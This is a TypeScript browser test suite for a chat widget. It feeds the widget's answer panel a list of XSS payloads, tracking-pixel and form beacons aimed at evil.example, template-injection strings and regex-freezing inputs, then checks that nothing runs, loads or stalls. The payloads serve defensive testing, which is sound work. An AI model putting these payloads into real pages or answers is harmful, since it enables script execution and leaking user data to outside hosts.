/** Answers that attack the page, that freeze it, and that are only long. */
import { existsSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { askAndWait, panelOf } from '../support/panel-actions.ts'
import {
  chromiumPath,
  startWidgetFixture,
  strictPage,
  type Watched,
  type WidgetFixture,
} from '../support/widget-fixture.ts'

/** The "Big List of Naughty Strings", where the machine has it. */
const blns = resolve(import.meta.dirname, '../../../../shared/vectors/blns.json')

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>*{background:url(https://evil.example/css)}</style>',
  '<link rel=stylesheet href=https://evil.example/css><base href=https://evil.example/>',
  '<form action=https://evil.example/><button>Sign in</button></form>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](//evil.example/relative)',
  '[click](https://evil.example/"onmouseover="alert(1))',
  '![beacon](https://evil.example/pixel.png?q=secret)',
  '![beacon](<https://evil.example/pixel.png>)',
  '[![beacon](https://evil.example/pixel.png)](https://evil.example/)',
  '<img src="https://evil.example/pixel.png?q=secret">',
  '![](data:image/svg+xml,<svg onload=alert(1)>)',
  'https://evil.example/"><script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```html"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>\n> <svg/onload=alert(1)>\n- <iframe src=//evil.example></iframe>',
  '<gatekeeper-chat gateway="https://evil.example"></gatekeeper-chat>',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;',
]

/** Texts that make careless searches quadratic. */
const long = 40_000
const freezing: Readonly<Record<string, string>> = {
  stars: '*a '.repeat(long / 3),
  pairs: '**a'.repeat(long / 3),
  underscores: '_a _'.repeat(long / 4),
  brackets: '['.repeat(long),
  links: '[a]('.repeat(long / 4),
  ticks: '`a'.repeat(long / 2),
  quotes: '>'.repeat(long),
  hashes: `# ${'#'.repeat(long)}x`,
  bars: `a\n${'|'.repeat(long)}x`,
  dashes: `a\n${' '.repeat(long)}|-x`,
  spaces: `-${' '.repeat(long)}x`,
  items: Array.from({ length: 280 }, (_, at) => `${' '.repeat(at)}- a`).join('\n'),
  address: `https://${'!'.repeat(long)}x`,
  fences: '```\n'.repeat(long / 4),
}

describe.skipIf(chromiumPath === null)('a hostile answer', () => {
  let fixture: WidgetFixture
  let watched: Watched
  beforeAll(async () => {
    fixture = await startWidgetFixture()
    fixture.put('/', strictPage({ gateway: fixture.gateway.url, attributes: 'open' }))
  })
  afterAll(() => fixture?.stop())
  beforeEach(async () => {
    watched = await fixture.open('/')
  })
  afterEach(() => watched.page.context().close())

  const answerWith = async (text: string, size: number = text.length) => {
    const pieces: string[] = []
    for (let at = 0; at < text.length; at += size) pieces.push(text.slice(at, at + size))
    fixture.gateway.plan = () => ({ pieces })
    await askAndWait(watched.page, 'Attack')
  }
  /** Names of elements, and addresses, that an answer made. */
  const readMade = () =>
    panelOf(watched.page).log.evaluate((log) => {
      const all = [...log.querySelectorAll('article.it *')]
      const names = new Set(all.map(({ localName }) => localName))
      const links = all.filter((one) => one instanceof HTMLAnchorElement)
      return {
        names: [...names].sort(),
        schemes: [...new Set(links.map(({ protocol }) => protocol))],
        rels: [...new Set(links.map(({ rel, target }) => `${target} ${rel}`))],
        attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))].sort(),
      }
    })
  const allowed =
    'a blockquote br button code del div em h3 hr li ol p pre span strong table tbody td th thead tr ul'
  const expectHarmless = async () => {
    const made = await readMade()
    expect(made.names.filter((name) => !allowed.split(' ').includes(name))).toEqual([])
    expect(
      made.attributes.filter((name) => !/^(class|href|rel|start|tabindex|target|type)$/.test(name)),
    ).toEqual([])
    expect(made.schemes.filter((scheme) => scheme !== 'https:' && scheme !== 'http:')).toEqual([])
    expect(made.rels.filter((rel) => rel !== '_blank noopener noreferrer nofollow')).toEqual([])
    const { foreign, dialogs, faults } = watched
    expect({ foreign, dialogs, faults }).toEqual({ foreign: [], dialogs: [], faults: [] })
  }

  it('runs nothing, loads nothing and links to the web alone', async () => {
    for (const attack of attacks) await answerWith(attack)
    await answerWith(attacks.join('\n\n'), 3)
    await expectHarmless()
    const text = await panelOf(watched.page).log.textContent()
    expect(text).toContain('<script>alert(1)</script>')
  })

  it.skipIf(!existsSync(blns))(
    'is harmless with each of the naughty strings, as question and as answer',
    async () => {
      const strings = JSON.parse(readFileSync(blns, 'utf8')) as string[]
      expect(strings.length).toBeGreaterThan(400)
      for (let at = 0; at < strings.length; at += 60) {
        const some = strings.slice(at, at + 60)
        fixture.gateway.plan = () => ({ pieces: some.map((one) => `${one}\n\n`) })
        await askAndWait(watched.page, some.join('\n') || 'empty')
      }
      await expectHarmless()
    },
  )

  it.each(Object.entries(freezing))('does not freeze the page with %s', async (_, text) => {
    const startedAt = performance.now()
    await answerWith(text)
    const ms = performance.now() - startedAt
    process.stdout.write(`${_}: ${Math.round(ms)} ms\n`)
    expect(ms).toBeLessThan(8_000)
    expect(watched.faults).toEqual([])
  })

  it('draws 10,000 tokens with less than 16 ms of script a frame', async () => {
    const paragraph = `${'Roasting **takes** most of the _caffeine_ away, see `brew`. '.repeat(8)}\n\n`
    const list = '- 4 g for 250 ml\n- 90 °C, not boiling\n- one minute\n\n'
    const code = '```js\nconst tea = brew({ grams: 4, seconds: 60 })\n```\n\n'
    const words = (paragraph + list + code).repeat(105).match(/\s*\S+/g) ?? []
    fixture.gateway.plan = () => ({ pieces: words.slice(0, 10_000), delayMs: 0.01 })
    const panel = panelOf(watched.page)
    const browser = watched.page.context().browser()
    await browser?.startTracing(watched.page, { categories: ['devtools.timeline'] })
    await panel.ask('Everything about tea')
    await panel.status.filter({ hasText: 'Answer complete' }).waitFor({ timeout: 60_000 })
    const frames = readFrames(String(await browser?.stopTracing()))
    const at = (share: number) => frames[Math.floor((frames.length - 1) * share)] ?? 0
    const measured = {
      frames: frames.length,
      p50: at(0.5),
      p95: at(0.95),
      p99: at(0.99),
      max: at(1),
    }
    process.stdout.write(`10,000 tokens, ms of script a frame: ${JSON.stringify(measured)}\n`)
    expect(words.length).toBeGreaterThan(10_000)
    expect(measured.frames).toBeGreaterThan(50)
    expect(measured.max).toBeLessThan(16)
  })
})

/** Returns the milliseconds that each frame's scripts had the processor for, the least first. */
function readFrames(trace: string): readonly number[] {
  type Event = { readonly name: string; readonly tdur?: number }
  const { traceEvents } = JSON.parse(trace) as { traceEvents: readonly Event[] }
  const frames = traceEvents.filter(({ name }) => name === 'FireAnimationFrame')
  return frames.map(({ tdur = 0 }) => tdur / 1_000).sort((one, other) => one - other)
}
